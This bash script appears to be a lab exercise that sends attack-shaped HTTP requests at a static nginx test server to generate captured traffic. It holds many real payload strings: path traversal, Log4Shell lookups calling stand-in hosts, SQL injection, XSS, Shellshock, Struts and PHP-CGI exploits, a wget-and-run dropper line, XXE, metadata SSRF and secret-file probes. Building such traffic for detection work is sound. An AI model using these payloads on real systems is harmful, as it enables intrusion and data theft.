#!/usr/bin/env bash
. "$(dirname "$0")/../lib/lab.sh"
. "$lib/servers.sh"

# Requests shaped like well-known attacks. The server is a plain nginx with static pages: none can work.
bridge
host www 203.0.113.80/24
host evil 198.51.100.66/24
host bot 198.51.100.77/24
make_site "$lab/site"
nginx_on www 80 <<CONF
server { listen 80 default_server; root $lab/site;
  location /api { return 200 "ok\n"; }
  location /admin { return 401; }
  location /crash { return 500; } }
CONF
echo '203.0.113.80 www.agency.example' >>"$lab/hosts"

capture
site=http://www.agency.example
get() { quiet_curl evil --path-as-is -g "$@"; }
# Path traversal
get "$site/../../../../etc/passwd"
get "$site/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"
get "$site/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh" -d 'echo;id'
get "$site/download?file=..%2f..%2f..%2fwindows%2fwin.ini"
get "$site/static/..;/manager/html"
get "$site/index.php?page=php://filter/convert.base64-encode/resource=config"
# Log4Shell and kin
get -A '${jndi:ldap://198.51.100.66:1389/a}' "$site/"
get -H 'X-Api-Version: ${${lower:j}ndi:${lower:l}dap://evil.test/x}' "$site/api"
get "$site/?q=%24%7Bjndi%3Armi%3A%2F%2Fevil.test%2Fb%7D"
get -e '${jndi:dns://evil.test}' "$site/"
# SQL injection, XSS, template injection
get "$site/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"
get "$site/item?id=1'%20OR%20'1'='1"
get "$site/item?id=1;WAITFOR%20DELAY%20'0:0:5'--"
get "$site/item?id=1%20AND%20SLEEP(5)"
get "$site/search?q=<script>alert(1)</script>"
get "$site/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"
get "$site/search?q={{7*7}}"
# Web shells and command injection
get "$site/uploads/shell.php?cmd=whoami"
get "$site/cmd.aspx?c=net%20user"
get "$site/ping?host=127.0.0.1;cat%20/etc/shadow"
get "$site/ping?host=\$(id)"
get "$site/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.66/mips;sh+mips"
get -d 'pass=@ini_set("display_errors","0");@eval(base64_decode($_POST[z]));' "$site/images/a.php"
get -T "$lab/site/app.js" "$site/uploads/shell.jsp"
# Named holes
get -A '() { :; }; /bin/bash -c "cat /etc/passwd"' "$site/cgi-bin/status"
get "$site/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bx%7Di"
get "$site/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/"
get -H 'Content-Type: %{(#_="multipart/form-data").(#cmd="id")}' "$site/struts/upload.action"
get -d '<?php echo 1; ?>' "$site/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"
get -d '<?php echo 1; ?>' "$site/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input"
get "$site/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
get "$site/autodiscover/autodiscover.json?@evil.test/owa/&Email=autodiscover/autodiscover.json%3f@evil.test"
get "$site/owa/auth/x.js"
get -X POST "$site/mgmt/tm/util/bash"
get "$site/solr/admin/cores?wt=json"
get -H 'X-Middleware-Subrequest: middleware' "$site/admin"
get "$site/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd?/dana/html5acc/guacamole/"
get "$site/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua"
get -d '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' -H 'Content-Type: application/xml' "$site/api/xml"
get "$site/latest?url=http://169.254.169.254/latest/meta-data/"
# Looking for things left lying about
for path in .git/config .git/HEAD .env .svn/entries .aws/credentials .DS_Store wp-login.php wp-admin/setup-config.php \
  xmlrpc.php phpinfo.php phpmyadmin/index.php backup.zip db.sql server-status actuator/env console/ web.config manager/html \
  cgi-bin/luci HNAP1/ boaform/admin/formLogin; do
  quiet_curl bot -A 'Mozilla/5.0 zgrab/0.x' "$site/$path"
done
# Tools that name themselves
quiet_curl bot -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' "$site/item?id=1"
quiet_curl bot -A 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)' "$site/"
for agent in 'gobuster/3.6' 'Fuzz Faster U Fool v2.1.0-dev' 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' \
  'masscan/1.3' 'WPScan v3.8.25' 'python-requests/2.31.0' 'Go-http-client/1.1' 'Hello, World' 'dirbuster'; do
  quiet_curl bot -A "$agent" "$site/admin"
done
# Methods
for method in PROPFIND TRACE DEBUG SEARCH TRACK; do quiet_curl bot -X "$method" "$site/"; done
raw() { printf "$1" | on bot timeout 2 socat -t 1 - TCP:203.0.113.80:80 >/dev/null || true; }
raw 'CONNECT mail.agency.example:25 HTTP/1.1\r\nHost: mail.agency.example:25\r\n\r\n'
raw 'GET http://other.example/ HTTP/1.1\r\nHost: other.example\r\n\r\n'
raw 'POST /api HTTP/1.1\r\nHost: www.agency.example\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGPOST'
raw 'GET /\tindex HTTP/9.9\r\n\r\n'
# Guessed passwords
for word in admin 123456 password letmein; do quiet_curl evil -u "admin:$word" "$site/admin"; done
get "$site/crash"
finish curl nginx socat
